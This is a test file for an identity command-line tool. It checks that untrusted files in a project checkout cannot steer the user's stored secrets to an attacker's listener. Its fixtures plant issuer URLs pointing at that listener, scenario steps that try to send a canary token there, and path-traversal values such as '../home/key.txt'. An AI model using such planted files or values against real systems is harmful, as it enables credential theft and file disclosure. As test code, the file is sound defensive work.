/** A document that a stranger wrote leads nothing stored of the user's, and no scenario, to the hosts that it names. */
import { describe, expect, it } from 'vitest';
import { CANARY, hostileCheckout, type Listener, listener } from './checkout.ts';

const SECRET = { IDCLI_CLIENT_SECRET: CANARY };
const ACTIONS = ['refresh', 'introspect', 'revoke', 'userinfo'];
const plain = (text: string): string => text.replace(/\s+/g, ' ');

const planted = (evil: Listener, more: object = {}) =>
  JSON.stringify({
    provider: 'generic',
    tokens: { refresh_token: 'r', access_token: 'a' },
    claims: { source: { issuer: evil.url, audience: 'c' } },
    ...more,
  });

/** Answers as a running sandbox would whose provider is the listener itself. */
function asSandbox(evil: Listener): Listener {
  evil.answer('/_sandbox/state', { sandbox: 'idcli', tenants: [{ id: 'generic', issuer: evil.url }] });
  return evil;
}

describe('the JSON of a login', () => {
  it.each(ACTIONS)('that calls its issuer a sandbox gets no stored secret: token %s', async (action) => {
    const evil = asSandbox(await listener());
    const checkout = hostileCheckout({ 'login.json': planted(evil, { sandbox: true }) });
    const line = ['token', action, '--from', 'login.json'];
    const { code, stderr } = await checkout.run(line, { env: SECRET });
    expect(evil.leaked(), stderr).toBe(false);
    expect(code, stderr).toBe(2);
    expect(stderr).toContain('login.json');
    await checkout.run(line, {});
    expect(evil.heard.length).toBeGreaterThan(1);
  });

  it.each(ACTIONS)('that names a provider of the checkout is asked about: token %s', async (action) => {
    const evil = await listener();
    const checkout = hostileCheckout({
      'login.json': planted(evil, { provider: 'mine' }),
      'idcli.config.yaml': JSON.stringify({ providers: { mine: { issuer: evil.url, clientId: 'c' } } }),
    });
    const { code, stderr } = await checkout.run(['token', action, '--from', 'login.json'], { env: SECRET });
    expect(code, stderr).toBe(2);
    expect(evil.heard).toEqual([]);
  });
});

describe('the JSON of a SAML login', () => {
  it.each(['redirect', 'soap'])('leads no logout to a provider of the checkout: %s', async (binding) => {
    const evil = await listener();
    const checkout = hostileCheckout({
      'login.json': JSON.stringify({
        provider: 'mine',
        data: { nameId: { value: CANARY }, sessionIndex: '_s' },
        claims: { source: { issuer: evil.url, audience: 'https://sp.example.com' } },
      }),
      'idcli.config.yaml': JSON.stringify({
        providers: { mine: { saml: { metadata: `${evil.url}/metadata` } } },
      }),
    });
    const { code, stderr } = await checkout.run(
      ['saml', 'logout', '--from', 'login.json', '--binding', binding, '--headless', '--timeout', '20'],
      { env: { IDCLI_SP_KEY: 'file:../home/key.txt', IDCLI_SP_CERT: '../home/key.txt' } },
    );
    expect(code, stderr).toBe(2);
    expect(evil.heard, stderr).toEqual([]);
  });
});

/** A login whose provider is known by its callback alone. */
const recording = (evil: Listener) => {
  const entry = (url: string, response: object) => ({
    startedDateTime: '2026-01-01T00:00:00.000Z',
    request: { method: 'GET', url, headers: [] },
    response: { headers: [], content: {}, ...response },
  });
  const callback = `http://127.0.0.1/callback?code=c1&state=s1&iss=${encodeURIComponent(evil.url)}`;
  return JSON.stringify({
    log: {
      entries: [
        entry(
          `${evil.url}/authorize?response_type=code&client_id=c&state=s1&scope=openid&redirect_uri=http%3A%2F%2F127.0.0.1%2Fcallback`,
          { status: 302, headers: [{ name: 'location', value: callback }] },
        ),
        entry(callback, { status: 200 }),
      ],
    },
  });
};

describe('a recording', () => {
  it('reaches its hosts only where the user says --fetch', async () => {
    const evil = await listener();
    const checkout = hostileCheckout({ 'login.har': recording(evil) });
    await checkout.run(['judge', 'login.har'], { env: { ...SECRET, IDCLI_FETCH: 'false' } });
    expect(evil.heard).toEqual([]);
    await checkout.run(['judge', 'login.har', '--fetch'], { env: SECRET });
    expect(evil.heard.length).toBeGreaterThan(0);
    expect(evil.heard.every((request) => /^GET /.test(request))).toBe(true);
    expect(evil.leaked()).toBe(false);
  });

  it('reaches no host by a default of the checkout', async () => {
    const evil = await listener();
    const checkout = hostileCheckout({
      'login.har': recording(evil),
      'idcli.config.yaml': JSON.stringify({
        defaults: { provider: 'mine', fetch: true },
        providers: { mine: { issuer: evil.url, clientId: 'c' } },
      }),
    });
    const { stderr } = await checkout.run(['judge', 'login.har']);
    expect(evil.heard, stderr).toEqual([]);
  });

  it('reaches no host by a step of a scenario unasked', async () => {
    const evil = await listener();
    const checkout = hostileCheckout({
      'login.har': recording(evil),
      'attack.yaml': 'steps:\n  - run: judge login.har --fetch\n',
    });
    const { stdout, stderr } = await checkout.run(['run', 'attack.yaml']);
    expect(evil.heard).toEqual([]);
    expect(plain(stdout + stderr)).toContain('attack.yaml came with this checkout and would send');
  });
});

describe('the saved registration of a client', () => {
  const saved = (evil: Listener) =>
    JSON.stringify({
      client_id: 'c',
      registration_client_uri: `${evil.url}/reg`,
      registration_access_token: 't',
    });

  it('leads no stored secret to its address', async () => {
    const evil = await listener();
    const checkout = hostileCheckout({ 'client.json': saved(evil) });
    for (const action of ['show', 'update', 'delete']) {
      await checkout.run(['client', action, '--from', 'client.json'], {
        env: { ...SECRET, IDCLI_REGISTRATION_TOKEN: CANARY, IDCLI_INITIAL_TOKEN: CANARY },
      });
    }
    expect(evil.heard.length).toBeGreaterThan(0);
    expect(evil.leaked()).toBe(false);
  });

  it.each([
    'client show --from client.json --registration-token env:T',
    'client show --registration-uri URL/reg --registration-token env:T',
    'client show --from real.json --registration-uri URL/reg',
    'client update --from client.json --set software_statement=@../outside.txt',
    'client register --issuer URL --initial-token env:T',
    'client register --issuer URL --metadata @../outside.txt',
  ])('and no step of a scenario sends one there: %s', async (line) => {
    const evil = await listener();
    const checkout = hostileCheckout({
      'client.json': saved(evil),
      'real.json': JSON.stringify({
        registration_client_uri: 'http://127.0.0.1:1/reg',
        registration_access_token: CANARY,
      }),
      'attack.yaml': `variables: [T]\nsteps:\n  - run: ${line.replace('URL', evil.url)}\n`,
    });
    const { code, stdout, stderr } = await checkout.run(['run', 'attack.yaml'], { env: { T: CANARY } });
    expect(evil.leaked(), stdout + stderr).toBe(false);
    expect(code).not.toBe(0);
  });
});
